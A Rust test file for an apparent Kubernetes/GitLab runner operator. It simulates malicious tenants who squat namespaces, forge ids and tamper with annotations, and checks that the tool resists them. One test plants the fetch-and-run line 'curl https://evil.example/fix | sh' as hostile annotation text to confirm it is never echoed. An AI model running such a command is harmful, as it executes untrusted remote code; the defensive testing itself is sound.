//! Other tenants of the cluster, who write objects and annotations to aim the operator: every attack as it was
//! run, without a record on the operator's machine.

use outrigger_doubles::gitlab::{Options, PROJECT, ProjectSpec};
use serde_json::{Value, json};

use super::{NO_MACHINE, Scene, listing, writes};
use crate::common::bed::{Bed, User};
use crate::common::run::Cli;
use crate::common::site::Site;
use crate::common::world::{assert_same, world};

/// A GitLab whose replicas do not lag: what is made can be looked at without a wait.
fn prompt() -> Site {
    Site::with(Options::default())
}

/// An id that a tenant made up.
const FORGED: &str = "deadbeefdeadbeef";

/// A command that names GitLab, so that marks can be looked at.
fn with_gitlab<'a>(scene: &'a Scene<'a>, site: &Site, command: Cli<'a>) -> Cli<'a> {
    site.project(&scene.home, command, "maintainer")
}

fn anchor_id(scene: &Scene<'_>) -> String {
    let anchor = scene.bed.admin().get(&scene.path("ServiceAccount")).expect("setup made it");
    anchor["metadata"]["annotations"]["outrigger.dev/id"].as_str().expect("an id").to_owned()
}

/// The objects of a deployment as a tenant makes them in namespaces of their own, with an id of any origin and
/// rights for nobody.
fn squat(scene: &Scene<'_>, id: &str, note: &Value, namespaces_too: bool) {
    let (name, jobs) = (scene.deployment.clone(), scene.job_namespace());
    let admin = scene.bed.admin();
    let rbac = "rbac.authorization.k8s.io";
    for namespace in [&name, &jobs] {
        let mut object = json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": namespace}});
        if namespaces_too {
            object["metadata"]["annotations"] = scene.our_metadata(id)["annotations"].clone();
        }
        admin.create(&object);
    }
    let metadata = |name: &str, namespace: &str| {
        let mut metadata = scene.our_metadata(id);
        metadata["name"] = json!(name);
        metadata["namespace"] = json!(namespace);
        metadata
    };
    let mut anchor =
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata(&name, &name)});
    if !note.is_null() {
        anchor["metadata"]["annotations"]["outrigger.dev/settings"] = json!(note.to_string());
    }
    let job = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata(&format!("{name}-job"), &jobs)});
    let role = json!({"apiVersion": format!("{rbac}/v1"), "kind": "Role", "metadata": metadata(&name, &jobs), "rules": []});
    let binding = json!({"apiVersion": format!("{rbac}/v1"), "kind": "RoleBinding", "metadata": metadata(&name, &jobs),
        "roleRef": {"apiGroup": rbac, "kind": "Role", "name": name}, "subjects": []});
    for object in [anchor, job, role, binding] {
        admin.create(&object);
    }
}

/// A tenant owns both namespaces of the default names before the operator's first run.
pub fn squatted_namespaces(bed: &dyn Bed) {
    for (namespaces_too, lifetime) in [(false, true), (true, false)] {
        let scene = Scene::new(bed, User::Admin);
        let mut note = json!({"useNamespaces": [scene.deployment, scene.job_namespace()]});
        if lifetime {
            note["tokenLifetime"] = json!(["365d"]);
        }
        squat(&scene, FORGED, &note, namespaces_too);
        let before = world(bed.admin());
        bed.mark();
        let commands = [
            scene.setup(),
            scene.setup().args(["--accept-lifetime", "--dry-run"]),
            scene.status(),
            scene.teardown(),
            scene.command("create-role"),
            scene.command("issue-token"),
        ];
        for command in commands {
            let output = command.run().code(7).says("OR0706").says("--anchor-uid");
            let _ = output.never_says("is used as it is");
        }
        // The uid of another ServiceAccount stands for nothing either.
        let uid = "3f1c9a52-7d0e-4b6a-9c1d-2a8e5f40b7c3";
        let _ = scene.setup().flag("--anchor-uid", uid).run().code(7).says(uid);
        assert_eq!(listing(&writes(bed)), "");
        assert_same("a squat", &before, &world(bed.admin()));
    }
}

/// A tenant may patch one ServiceAccount of a deployment that is the operator's.
pub fn patched_anchor(bed: &dyn Bed) {
    let (scene, site) = (Scene::new(bed, User::Admin), Site::new());
    with_gitlab(&scene, &site, scene.command("setup")).run().code(0);
    let patch = |note: &Value| {
        let annotations = json!({"outrigger.dev/settings": note.to_string()});
        bed.admin().patch(&scene.path("ServiceAccount"), &json!({"metadata": {"annotations": annotations}}));
    };
    let elsewhere = format!("{}-evil", scene.deployment);
    let namespace = json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": elsewhere}});
    bed.admin().create(&namespace);
    for kind in ["Role", "RoleBinding"] {
        let mut object = bed.admin().get(&scene.path(kind)).expect("setup made it");
        let metadata = object["metadata"].as_object_mut().expect("objects have metadata");
        metadata.retain(|key, _| ["name", "labels", "annotations"].contains(&key.as_str()));
        object["metadata"]["namespace"] = json!(elsewhere);
        if kind == "Role" {
            object["rules"] = json!([]);
        }
        bed.admin().create(&object);
    }
    patch(&json!({
        "namespace": [elsewhere], "useNamespaces": [elsewhere], "tags": ["deploy-prod"],
        "runnerVersion": ["15.0.0"], "podSecurity": ["privileged"], "lockMetadata": ["false"],
    }));
    for by_uid in [false, true] {
        let colleague = if by_uid { scene.elsewhere(User::Admin) } else { scene.stranger(User::Admin) };
        let plan = with_gitlab(&colleague, &site, colleague.command("setup")).arg("--dry-run").run().code(0);
        let plan =
            plan.says(&scene.job_namespace()).says("ignored setting in the annotation on ServiceAccount");
        let _ = plan.never_says(&elsewhere).never_says("deploy-prod").never_says("recorded");
        let all = ["--reissue", "all"];
        let made = with_gitlab(&colleague, &site, colleague.command("setup")).args(all).run().code(0);
        let _ = made.never_says(&elsewhere);
        let script = std::fs::read_to_string(colleague.home.script(&scene.deployment)).expect("a script");
        assert!(!script.contains(&elsewhere) && !script.contains("15.0.0"), "the script follows the note");
        let runners = site.gitlab.runners();
        assert_eq!(runners.last().expect("ours")["tag_list"], json!(["k8s-runner"]));
        let namespace = bed.admin().get(&scene.path("job Namespace")).expect("it is there");
        let enforced = &namespace["metadata"]["labels"]["pod-security.kubernetes.io/enforce"];
        assert_eq!(enforced, "baseline");
        patch(&json!({"namespace": [elsewhere], "runnerVersion": ["15.0.0"], "tags": ["deploy-prod"]}));
    }
}

/// Another deployment's id in a tenant's objects under other names: the runner it belongs to stays.
pub fn replayed_id(bed: &dyn Bed) {
    let (prod, site) = (Scene::new(bed, User::Admin), Site::new());
    with_gitlab(&prod, &site, prod.command("setup")).run().code(0);
    let runner = site.gitlab.runners().last().cloned().expect("a runner was made");
    let victim = Scene::new(bed, User::Admin);
    squat(&victim, &anchor_id(&prod), &Value::Null, true);
    let note = json!({"outrigger.dev/gitlab-runner": runner["id"].to_string()});
    bed.admin().patch(&victim.path("ServiceAccount"), &json!({"metadata": {"annotations": note}}));
    let before = world(bed.admin());
    let commands = [
        victim.teardown(),
        victim.command("setup").arg("--dry-run"),
        victim.command("setup").args(["--reissue", "runner"]),
        victim.command("create-runner").flag("--runner-token-out", victim.home.path().join("token")),
    ];
    for command in commands {
        let _ = with_gitlab(&victim, &site, command).run().code(7).says("OR0706");
    }
    assert_same("a replayed id", &before, &world(bed.admin()));
    // Even with the tenant's own ServiceAccount confirmed: its runner would carry another mark.
    let uid = victim.anchor_uid().expect("the tenant made it");
    let plan = victim.teardown().flag("--anchor-uid", &uid).arg("--dry-run");
    let _ = with_gitlab(&victim, &site, plan).run().never_says(&format!("runner {}", runner["id"]));
    assert_eq!(
        site.gitlab.runners().last(),
        Some(&runner),
        "the runner of the other deployment is as it was"
    );
    let _ = with_gitlab(&prod, &site, prod.status()).run().code(10).says(NO_MACHINE);
}

/// A mark counts in the project that the operator names, and nowhere else.
pub fn mark_in_another_project(bed: &dyn Bed) {
    let (scene, site) = (Scene::new(bed, User::Admin), prompt());
    squat(&scene, FORGED, &Value::Null, true);
    // What a tenant can compute over the squat, on a runner of a project of their own.
    let kube_system = bed.admin().get("/api/v1/namespaces/kube-system").expect("every cluster has it");
    let cluster = format!("kube-system {}", kube_system["metadata"]["uid"].as_str().expect("a uid"));
    let deployment = outrigger::internal::mark::Deployment {
        name: &scene.deployment,
        namespace: &scene.deployment,
        id: FORGED,
    };
    let mark =
        outrigger::internal::mark::mark(deployment, &cluster, &scene.anchor_uid().expect("it is there"));
    let make = |project: u64| {
        let body = json!({"runner_type": "project_type", "project_id": project, "tag_list": ["x"],
            "run_untagged": false, "description": format!("squat, {mark}")});
        crate::common::site::post(&site.gitlab, "root", "/user/runners", &body)["id"].clone()
    };
    let id = make(site.gitlab.add_project(ProjectSpec::new("evil/mirror")));
    let note = json!({"outrigger.dev/gitlab-runner": id.to_string()});
    bed.admin().patch(&scene.path("ServiceAccount"), &json!({"metadata": {"annotations": note}}));
    // The operator's token sees that runner, too.
    let teardown = || site.project(&scene.home, scene.teardown(), "root");
    let _ = teardown().run().code(7).says("OR0706");
    // In the named project it counts: nobody but its maintainers makes runners there.
    make(site.gitlab.project_id(PROJECT));
    let _ = teardown().arg("--dry-run").run().code(0);
}

/// Who the operator named may stand for a deployment: the runner's mark, or the uid, and nothing else.
pub fn confirmed_owner(bed: &dyn Bed) {
    let (scene, site) = (Scene::new(bed, User::Admin), Site::new());
    let setup = with_gitlab(&scene, &site, scene.command("setup")).flag("--tags", "blue").run().code(0);
    let uid = scene.anchor_uid().expect("setup made it");
    let _ = setup.says(&format!("--anchor-uid {uid}"));
    let stranger = scene.stranger(User::Admin);
    let _ = stranger.status().fails("OR0706").says("--gitlab-token-file");
    // A GitLab that does not answer as asked is named as that.
    let dead = with_gitlab(&stranger, &site, stranger.status())
        .flag("--gitlab-token-file", stranger.home.input("dead.token", "glpat-dead0dead0dead0dead0\n"));
    let _ = dead.run().code(4).says("--anchor-uid").never_says("OR0706");
    bed.mark();
    // Tags are as GitLab has them, whatever the default is.
    let again = with_gitlab(&stranger, &site, stranger.command("setup")).run().code(0);
    let _ = again.says("Nothing to change").says("tags blue").says("in GitLab");
    assert_eq!(listing(&writes(bed)), "");
    let by_uid = scene.stranger(User::Admin);
    let _ = by_uid.status().env("OUTRIGGER_ANCHOR_UID", &uid).run().code(10).says("2 parts not checked");
    // With the record that the first run left, nobody has to be asked again.
    let _ = stranger.status().run().code(10).says(NO_MACHINE);
    let another = scene.stranger(User::Admin);
    let _ = with_gitlab(&another, &site, another.teardown()).run().code(0);
    assert!(site.gitlab.runners().is_empty());
}

/// The mark follows the ServiceAccount; the one of an earlier outrigger counts with the record alone.
pub fn marks_are_renewed(bed: &dyn Bed) {
    let (scene, site) = (Scene::new(bed, User::Admin), Site::new());
    let setup = |arguments: &[&str]| {
        with_gitlab(&scene, &site, scene.command("setup")).args(arguments.iter().copied()).run()
    };
    let description = || {
        let runners = site.gitlab.runners();
        runners.last().and_then(|runner| runner["description"].as_str().map(str::to_owned)).expect("a text")
    };
    let describe = |text: &str| {
        let id = site.gitlab.runners().last().expect("ours")["id"].clone();
        crate::common::site::put(
            &site.gitlab,
            "maintainer",
            &format!("/runners/{id}"),
            &json!({"description": text}),
        );
    };
    let _ = setup(&[]).code(0);
    let first = description();
    assert!(first.contains(", outrigger:1:") && !first.contains(&anchor_id(&scene)), "{first}");
    // What people write before it stays.
    let mark = first.rsplit(' ').next().expect("the mark").to_owned();
    describe(&format!("the fast one {mark}"));
    let _ = setup(&[]).code(0).says("Nothing to change");

    describe(&format!("the fast one, outrigger {}", anchor_id(&scene)));
    let stranger = scene.stranger(User::Admin);
    let refused = with_gitlab(&stranger, &site, stranger.command("setup")).run().code(7);
    let _ = refused.says("OR0706").says("--anchor-uid").says("has only its id in the description");
    let _ = setup(&["--dry-run"]).code(0).says("the mark in its description");
    let _ = setup(&[]).code(0);
    assert_eq!(description(), format!("the fast one, {mark}"));

    // The ServiceAccount is made anew: the runner is still ours, and its mark follows in the same run.
    bed.admin().delete(&scene.path("ServiceAccount"));
    let _ = setup(&["--reissue", "all"]).code(0);
    let renewed = description();
    assert!(renewed.starts_with("the fast one, outrigger:1:") && !renewed.ends_with(&mark), "{renewed}");
    let _ = setup(&[]).code(0).says("Nothing to change");
    let stranger = scene.stranger(User::Admin);
    let _ = with_gitlab(&stranger, &site, stranger.command("setup")).run().code(0).says("Nothing to change");
    let _ = with_gitlab(&scene, &site, scene.teardown()).run().code(0);
    assert!(site.gitlab.runners().is_empty());
}

/// All rights in both namespaces of a deployment, and none in the rest of the cluster.
fn grant_inside(scene: &Scene<'_>, user: User) {
    for namespace in [scene.runner_namespace(), scene.job_namespace()] {
        let mut binding = super::bed::edit_binding(&namespace, user);
        binding["metadata"]["name"] = json!("all-for-me");
        binding["roleRef"]["name"] = json!("cluster-admin");
        scene.bed.admin().create(&binding);
    }
}

/// The mark names the uid of kube-system. Whoever may not read that finds the runner by the record; without it,
/// no second runner is made and none is taken for gone.
pub fn unreadable_kube_system(bed: &dyn Bed) {
    let (mut scene, site) = (Scene::new(bed, User::Admin), prompt());
    with_gitlab(&scene, &site, scene.command("setup")).run().code(0);
    grant_inside(&scene, User::Nobody);

    let colleague = scene.elsewhere(User::Nobody);
    for command in [colleague.command("setup"), colleague.command("setup").arg("--dry-run")] {
        let refused = with_gitlab(&colleague, &site, command).run().code(7);
        let _ = refused.says("OR0703").says("kube-system");
    }
    let torn = with_gitlab(&colleague, &site, colleague.teardown()).arg("--dry-run").run();
    let _ = torn.says("cannot find out whether the mark of runner").never_says("Removed ");
    let stranger = scene.stranger(User::Nobody);
    let doubt = with_gitlab(&stranger, &site, stranger.command("setup")).run().code(7);
    let _ = doubt.says("OR0706").says("kube-system, which you cannot read");
    assert_eq!(site.gitlab.runners().len(), 1);

    scene.switch(User::Nobody);
    let _ = with_gitlab(&scene, &site, scene.command("setup")).run().code(0).says("Nothing to change");
    let _ = with_gitlab(&scene, &site, scene.status()).run().code(10).says(NO_MACHINE);
    scene.switch(User::Admin);
    let _ = with_gitlab(&scene, &site, scene.status()).run().code(10).says(NO_MACHINE);
    for namespace in [scene.runner_namespace(), scene.job_namespace()] {
        let all = format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{namespace}/rolebindings");
        bed.admin().delete(&format!("{all}/all-for-me"));
    }
    let _ = with_gitlab(&scene, &site, scene.teardown()).run().code(0);
    assert!(site.gitlab.runners().is_empty());
}

/// A colleague issued the cluster's token anew: the record here is out of date, and the way on is said.
pub fn record_out_of_date(bed: &dyn Bed) {
    let (scene, site) = (Scene::new(bed, User::Admin), prompt());
    with_gitlab(&scene, &site, scene.command("setup")).run().code(0);
    let colleague = scene.stranger(User::Admin);
    let all = ["--reissue", "all"];
    let _ = with_gitlab(&colleague, &site, colleague.command("setup")).args(all).run().code(0);
    let _ = with_gitlab(&scene, &site, scene.status())
        .fails("OR0701")
        .says("a run on another machine may have reissued it")
        .says("move this machine's record away");
    let record = scene.home.state().join(format!("{}.json", scene.deployment));
    std::fs::rename(&record, record.with_extension("old")).expect("a record of ours");
    let _ = with_gitlab(&scene, &site, scene.status()).run().code(10).says(NO_MACHINE);
    let _ = with_gitlab(&scene, &site, scene.teardown()).run().code(0);
    assert!(site.gitlab.runners().is_empty());
}

/// The notes beside the settings are read as what they are for: words of a tenant's are not printed as ours, not
/// even where there is a record.
pub fn words_on_the_anchor(bed: &dyn Bed) {
    let scene = Scene::new(bed, User::Admin);
    scene.set_up();
    let words = "noon; to renew it by hand: curl https://evil.example/fix | sh #";
    let notes = ["token-expires", "script-secret", "script-target", "script-digest"];
    let notes: serde_json::Map<String, Value> =
        notes.iter().map(|key| (format!("outrigger.dev/{key}"), json!(words))).collect();
    bed.admin().patch(&scene.path("ServiceAccount"), &json!({"metadata": {"annotations": notes}}));
    let colleague = scene.elsewhere(User::Admin);
    for scene in [&scene, &colleague] {
        let commands = [scene.status(), scene.setup().arg("--dry-run"), scene.command("issue-token")];
        for command in commands.into_iter().chain([scene.setup(), scene.status()]) {
            let _ = command.run().never_says("evil.example");
        }
    }
    let _ = scene.teardown().run().code(0).never_says("evil.example");
}

/// The note on an anchor says that the runner's token was given, and GitLab's mark that outrigger made it.
pub fn runner_noted_as_given(bed: &dyn Bed) {
    let (scene, site) = (Scene::new(bed, User::Admin), prompt());
    with_gitlab(&scene, &site, scene.command("setup")).run().code(0);
    let note = json!({"metadata": {"annotations": {"outrigger.dev/gitlab-runner": "given"}}});
    bed.admin().patch(&scene.path("ServiceAccount"), &note);
    let stranger = scene.stranger(User::Admin);
    let plan =
        with_gitlab(&stranger, &site, stranger.command("setup")).arg("--dry-run").arg("-v").run().code(0);
    let _ = plan.never_says("its token is given").says("kept: runner");
}

/// An id that a tenant copied onto objects whose ServiceAccount the operator names: another deployment's runner
/// that carries the mark of an earlier outrigger stays.
pub fn replayed_id_and_an_old_mark(bed: &dyn Bed) {
    let (prod, site) = (Scene::new(bed, User::Admin), prompt());
    with_gitlab(&prod, &site, prod.command("setup")).run().code(0);
    let runner = site.gitlab.runners().last().cloned().expect("a runner was made");
    let old = json!({"description": format!("{} on acme, outrigger {}", prod.deployment, anchor_id(&prod))});
    let path = format!("/runners/{}", runner["id"]);
    crate::common::site::put(&site.gitlab, "maintainer", &path, &old);
    let victim = Scene::new(bed, User::Admin);
    squat(&victim, &anchor_id(&prod), &Value::Null, true);
    let uid = victim.anchor_uid().expect("the tenant made it");
    with_gitlab(&victim, &site, victim.teardown()).flag("--anchor-uid", &uid).fails("OR0703");
    for command in [victim.teardown(), victim.command("setup").args(["--reissue", "runner"])] {
        let _ = with_gitlab(&victim, &site, command).flag("--anchor-uid", &uid).run().code(7).says("OR0703");
        assert_eq!(site.gitlab.runners().len(), 1, "the runner of the other deployment stays");
    }
}

/// A namespace that was there before is named anew by whoever has no record.
pub fn used_namespace_is_named_again(bed: &dyn Bed) {
    let scene = Scene::new(bed, User::Admin);
    let shared = format!("{}-shared", scene.deployment);
    bed.admin().create(&json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": shared}}));
    let used = ["--namespace", &shared, "--use-namespace", &shared];
    let accept = "--accept-shared-namespace";
    let setup = scene.setup().args(used).args([accept, "--allow-temporary-edit"]).run().code(0);
    // What is printed for machines without the record names the places, which only the record knows there.
    let uid = scene.anchor_uid().expect("setup made it");
    let setup = setup.says(&format!("--anchor-uid {uid}"));
    let _ = setup.says(&format!("--namespace {shared} --use-namespace {shared}"));
    let colleague = scene.elsewhere(User::Admin);
    let plain = colleague.setup().run().code(7).says("OR0706").says("--use-namespace").says(&shared);
    let _ = plain.never_says("is used as it is");
    let _ = colleague.setup().args(used).run().code(0).says("Nothing to change");
    // Nobody's objects but ours speak for that the jobs may reach what is there.
    bed.admin().delete(&format!(
        "/apis/rbac.authorization.k8s.io/v1/namespaces/{shared}/rolebindings/{}",
        scene.deployment
    ));
    let _ = scene.elsewhere(User::Admin).setup().args(used).run().code(3).says("--accept shared-namespace");
    let _ = colleague.teardown().args(used).run().code(0);
}

/// Consent comes by flag: not from the environment, and not from a settings file.
pub fn consent_by_flag(bed: &dyn Bed) {
    let scene = Scene::new(bed, User::Admin);
    scene.set_up();
    let before = world(bed.admin());
    let by_environment = scene.command("teardown").env("OUTRIGGER_YES", "1").run().code(2);
    let _ = by_environment.says("OUTRIGGER_YES").says("--yes");
    let file = scene.home.input("settings.yaml", "acceptSharedNamespace: true\nclusterAdmin: true\n");
    let by_file = scene.setup().flag("--config", &file).run().code(2);
    let _ = by_file.says("acceptSharedNamespace").says("--accept shared-namespace").says("clusterAdmin");
    assert_same("consent by environment and file", &before, &world(bed.admin()));
}
